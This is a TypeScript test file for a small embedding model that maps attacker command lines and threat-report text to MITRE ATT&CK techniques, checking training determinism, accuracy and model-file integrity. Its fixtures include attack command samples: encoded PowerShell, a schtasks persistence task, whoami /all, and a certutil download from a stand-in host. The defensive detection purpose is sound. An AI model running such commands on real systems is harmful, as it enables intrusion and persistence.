import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { LOG_TOWER, TEXT_TOWER, type ModelConfig } from '../../src/embed/model.js';
import { decodeModelFile, encodeModelFile, loadModel, saveModel } from '../../src/embed/model-file.js';
import { defaultTrainOptions, train, type TrainingSet } from '../../src/embed/train.js';
import { UserError } from '../../src/common/errors.js';
import { tempDir } from '../helpers.js';

const cfg: ModelConfig = { features: { buckets: 1024, charMin: 3, charMax: 4, bigrams: true, maxTokens: 32 }, dim: 16, pooling: 'sqrtn' };

function tinySet(): TrainingSet {
  const techniqueTexts = new Map([
    ['T1059.001', 'PowerShell: adversaries abuse PowerShell commands and scripts for execution'],
    ['T1053.005', 'Scheduled Task: adversaries abuse the Windows task scheduler schtasks for persistence'],
    ['T1033', 'System Owner/User Discovery: whoami and query user identify the logged on user'],
    ['T1105', 'Ingress Tool Transfer: download tools with certutil, curl, bitsadmin'],
  ]);
  const q = (text: string, tower: 0 | 1, label: string) => ({ text, tower, labels: [label], source: 'test' });
  const queries = [
    q('powershell.exe -nop -enc SQBFAFgA', LOG_TOWER, 'T1059.001'),
    q('The malware ran an encoded PowerShell command', TEXT_TOWER, 'T1059.001'),
    q('schtasks /create /tn updater /tr c:\\users\\public\\a.exe', LOG_TOWER, 'T1053.005'),
    q('created a scheduled task for persistence', TEXT_TOWER, 'T1053.005'),
    q('cmd.exe /c whoami /all', LOG_TOWER, 'T1033'),
    q('ran whoami to learn the current user', TEXT_TOWER, 'T1033'),
    q('certutil.exe -urlcache -split -f http://x.example/a.exe', LOG_TOWER, 'T1105'),
    q('downloaded a second stage with certutil', TEXT_TOWER, 'T1105'),
  ];
  return { queries, techniqueTexts, hardNegatives: new Map([['T1059.001', ['T1053.005']]]) };
}

const opts = { ...defaultTrainOptions, epochs: 3, batchSize: 4, hardNegatives: 2, seed: 5 };

function sha(b: Uint8Array): string {
  return createHash('sha256').update(b).digest('hex');
}

test('same seed gives a byte-identical model file; inline, 1 and 2 workers agree', async () => {
  const a = await train(tinySet(), cfg, { ...opts, workers: 0 });
  const b = await train(tinySet(), cfg, { ...opts, workers: 0 });
  const c = await train(tinySet(), cfg, { ...opts, workers: 2 });
  const d = await train(tinySet(), cfg, { ...opts, workers: 1 });
  const ha = sha(encodeModelFile(a.model, { seed: 5 }));
  assert.equal(sha(encodeModelFile(b.model, { seed: 5 })), ha);
  assert.equal(sha(encodeModelFile(c.model, { seed: 5 })), ha);
  assert.equal(sha(encodeModelFile(d.model, { seed: 5 })), ha);
  const other = await train(tinySet(), cfg, { ...opts, workers: 0, seed: 6 });
  assert.notEqual(sha(encodeModelFile(other.model, { seed: 5 })), ha);
});

test('training lowers the loss and ranks the right technique first on its own data', async () => {
  const { model, epochs } = await train(tinySet(), cfg, { ...opts, epochs: 30, workers: 0 });
  assert.ok(epochs.at(-1)!.loss < epochs[0]!.loss, `loss ${epochs[0]!.loss} → ${epochs.at(-1)!.loss}`);
  const set = tinySet();
  const ids = [...set.techniqueTexts.keys()];
  const techVecs = ids.map((t) => model.encodeText(set.techniqueTexts.get(t)!, TEXT_TOWER));
  let right = 0;
  for (const q of set.queries) {
    const v = model.encodeText(q.text, q.tower);
    const scores = techVecs.map((t) => t.reduce((acc, x, j) => acc + x * v[j]!, 0));
    if (ids[scores.indexOf(Math.max(...scores))] === q.labels[0]) right++;
  }
  assert.ok(right >= 7, `${right}/8 right`);
});

test('model file round-trips exactly and rejects damaged files with a place', async () => {
  const { model } = await train(tinySet(), cfg, { ...opts, epochs: 1, workers: 0 });
  const dir = tempDir();
  try {
    const path = join(dir.path, 'm.bin');
    const saved = saveModel(path, model, { hyper: { seed: 5 }, data: { sha256: 'x' } });
    const bytes = readFileSync(path);
    assert.equal(saved.sha256, sha(bytes));
    const loaded = loadModel(path);
    assert.deepEqual(loaded.model.config, model.config);
    assert.deepEqual(Buffer.from(loaded.model.params.buffer), Buffer.from(model.params.buffer));
    assert.deepEqual(loaded.header.training, { hyper: { seed: 5 }, data: { sha256: 'x' } });
    assert.equal(sha(encodeModelFile(loaded.model, loaded.header.training)), saved.sha256);
    const v1 = model.encodeText('powershell -enc', LOG_TOWER);
    const v2 = loaded.model.encodeText('powershell -enc', LOG_TOWER);
    assert.deepEqual(Array.from(v1), Array.from(v2));

    const flipped = Buffer.from(bytes);
    flipped[flipped.length - 3] = flipped[flipped.length - 3]! ^ 0xff;
    assert.throws(() => decodeModelFile(flipped, 'x.bin'), (e: unknown) => e instanceof UserError && /checksum/.test(e.message));
    assert.throws(() => decodeModelFile(bytes.subarray(0, 100), 'x.bin'), UserError);
    assert.throws(() => decodeModelFile(Buffer.from('hello world, not a model'), 'x.bin'), (e: unknown) => e instanceof UserError && e.place?.file === 'x.bin');
    assert.throws(() => loadModel(join(dir.path, 'missing.bin')), UserError);
  } finally {
    dir.cleanup();
  }
});

test('cached token encoding equals encoding the full feature list', async () => {
  const { model } = await train(tinySet(), cfg, { ...opts, epochs: 2, workers: 0 });
  const { featurize } = await import('../../src/embed/features.js');
  for (const text of ['powershell.exe -nop -enc SQBFAFgA', 'The actor ran whoami twice: whoami whoami', '', 'schtasks /create /tn a']) {
    for (const tower of [TEXT_TOWER, LOG_TOWER] as const) {
      const a = new Float32Array(cfg.dim);
      const b = new Float32Array(cfg.dim);
      model.encodeIds(featurize(text, cfg.features).ids, tower, a);
      model.encode(text, tower, b);
      model.encode(text, tower, b); // second time from the cache
      for (let j = 0; j < cfg.dim; j++) assert.ok(Math.abs(a[j]! - b[j]!) < 1e-5, `${text} [${j}]: ${a[j]} vs ${b[j]}`);
    }
  }
});
